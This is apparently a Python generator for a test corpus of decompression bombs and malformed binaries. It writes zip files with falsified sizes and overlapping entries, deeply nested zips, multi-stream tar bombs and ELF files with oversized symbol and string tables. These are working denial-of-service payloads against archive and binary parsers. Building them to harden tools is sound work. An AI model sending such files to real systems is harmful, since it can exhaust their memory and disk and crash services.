#!/usr/bin/env python3
"""Writes the bomb set: small files that claim, or unpack to, far more than they are.

usage: bombs.py FOLDER
"""
import bz2
import gzip
import io
import lzma
import os
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

MIB = 1 << 20
ZEROS = bytes(64 * MIB)
PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 64, 0, 64, 56, 0, 64, 0, 0)


def deflated(count):
    """A deflate stream of `count` MiB of zeros, put together from one that is flushed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = packer.compress(ZEROS[:MIB]) + packer.flush(zlib.Z_FULL_FLUSH)
    return part * count + packer.flush()


class Zip:
    """A zip file of which every number is said, so that none has to be true."""

    def __init__(self):
        self.body, self.directory, self.count = io.BytesIO(), io.BytesIO(), 0

    def local(self, name, packed, size, crc=0):
        at = self.body.tell()
        wide = struct.pack("<HHQQ", 1, 16, size, len(packed))
        self.body.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(wide)) + name + wide)
        self.body.write(packed)
        return at

    def central(self, name, packed, size, at, crc=0):
        wide = struct.pack("<HHQQ", 1, 16, size, packed)
        self.directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x32D, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(wide), 0, 0, 0,
                                         0o100755 << 16, at) + name + wide)
        self.count += 1

    def write(self, path):
        directory, start = self.directory.getvalue(), self.body.tell()
        end = start + len(directory)
        with open(path, "wb") as out:
            out.write(self.body.getvalue() + directory)
            out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, self.count, self.count, len(directory), start))
            out.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1) + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))


def ten_gigabytes(path):
    packed, size = deflated(10 << 10), 10 << 30
    bomb = Zip()
    bomb.central(b"zeros", len(packed), size, bomb.local(b"zeros", packed, size))
    bomb.write(path)


def programs(path):
    """Members that look like programs until they are unpacked: each has to be held in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(PROGRAM) + packer.flush(zlib.Z_FULL_FLUSH) + deflated(180)
    data_crc, bomb = zlib.crc32(PROGRAM), Zip()
    for i in range(180):
        data_crc = zlib.crc32(ZEROS[:MIB], data_crc)
    for i in range(20):
        name = b"program%d" % i
        size = len(PROGRAM) + 180 * MIB
        bomb.central(name, len(packed), size, bomb.local(name, packed, size, data_crc), data_crc)
    bomb.write(path)


def overlapping(path):
    """Every entry has the bytes of the same member."""
    packed, bomb = deflated(40), Zip()
    at = bomb.local(b"zeros", packed, 40 * MIB)
    for i in range(10000):
        bomb.central(b"zeros%d" % i, len(packed), 40 * MIB, at)
    bomb.write(path)


def long_names(path):
    """Every entry has the same local header, which has a name of 64 KiB."""
    bomb = Zip()
    at = bomb.local(b"n" * 65535, b"", 0)
    for i in range(60000):
        bomb.central(b"%d" % i, 0, 0, at)
    bomb.write(path)


def many_members(path):
    bomb = Zip()
    at = bomb.local(b"", b"\x03\0", 0)
    for i in range((1 << 20) + 10):
        bomb.central(b"", 2, 0, at)
    bomb.write(path)


def nested(path, fan=16, depth=5):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as inner:
        inner.writestr("zeros", ZEROS)
    for _ in range(depth):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
            for i in range(fan):
                archive.writestr(f"{i}.zip", packed.getvalue())
        packed = outer
    open(path, "wb").write(packed.getvalue())


def deep(path, depth=1000):
    packed = PROGRAM
    for i in range(depth):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("next", packed)
        packed = outer.getvalue()
    open(path, "wb").write(packed)


def tar_head(size):
    info = tarfile.TarInfo("zeros")
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT)


def compressed_tar(path, pack, count):
    """The streams of gzip, xz, zstd and bzip2 may follow one another."""
    open(path, "wb").write(pack(tar_head(count * len(ZEROS))) + pack(ZEROS) * count)


def many_headers(path):
    """A million empty files, of which a tar holds only the headers."""
    heads = b"".join(tarfile.TarInfo("%05d" % i).tobuf(tarfile.USTAR_FORMAT) for i in range(1 << 12))
    open(path, "wb").write(gzip.compress(heads, mtime=0) * 256)


def zstd(data):
    return subprocess.run(["zstd", "-q", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


def elf_sections(path):
    """As many sections as the format can say: their number stands in the first of them."""
    with open(path, "wb") as out:
        out.write(PROGRAM[:40] + struct.pack("<QIHHHHHH", 64, 0, 64, 56, 0, 64, 0, 0))
        out.write(struct.pack("<IIQQQQIIQQ", 0, 0, 0, 0, 0, 0xFFFFFFF0, 0, 0, 0, 0))
        out.truncate(256 * MIB)


def elf_tables(path, symbols, symbol, names):
    """A dynamic symbol table as large as the number of its hash chains says, and a string table of `names` bytes."""
    dynamic, table = 0x1000, 0x2000
    strings = table + 24 * symbols
    size = strings + names
    with open(path, "wb") as out:
        out.write(PROGRAM[:32] + struct.pack("<QQIHHHHHH", 64, 0, 0, 64, 56, 2, 64, 0, 0))
        out.write(struct.pack("<IIQQQQQQ", 1, 4, 0, 0, 0, size, size, 0x1000))
        tags = [(5, strings), (10, names), (6, table), (11, 24), (4, 0x900), (0, 0)]
        out.write(struct.pack("<IIQQQQQQ", 2, 6, dynamic, dynamic, dynamic, len(tags) * 16, len(tags) * 16, 8))
        out.seek(0x900)
        out.write(struct.pack("<II", 1, symbols & 0xFFFFFFFF))
        out.seek(dynamic)
        for tag in tags:
            out.write(struct.pack("<QQ", *tag))
        if symbol:
            out.seek(table + 24)
            out.write(symbol * (symbols - 1))
            out.write(b"\0name\0")
        out.truncate(size)


def main(folder):
    os.makedirs(folder, exist_ok=True)
    at = lambda name: os.path.join(folder, name)
    ten_gigabytes(at("ten-gigabytes.zip"))
    programs(at("programs.zip"))
    overlapping(at("overlapping.zip"))
    long_names(at("long-names.zip"))
    many_members(at("many-members.zip"))
    nested(at("nested.zip"))
    deep(at("deep.zip"))
    compressed_tar(at("bomb.tar.gz"), lambda data: gzip.compress(data, mtime=0), 160)
    compressed_tar(at("bomb.tar.xz"), lzma.compress, 160)
    compressed_tar(at("bomb.tar.bz2"), bz2.compress, 160)
    if subprocess.run(["sh", "-c", "command -v zstd"], stdout=subprocess.DEVNULL).returncode == 0:
        compressed_tar(at("bomb.tar.zst"), zstd, 160)
    many_headers(at("many-headers.tar.gz"))
    elf_sections(at("sections"))
    elf_tables(at("symbols"), 1 << 24, b"", 4096)
    elf_tables(at("imports"), 1 << 20, struct.pack("<IBBHQQ", 1, 0x12, 0, 0, 0, 0), 4096)
    elf_tables(at("strings"), 1000, b"", 500 * MIB)


main(*sys.argv[1:])
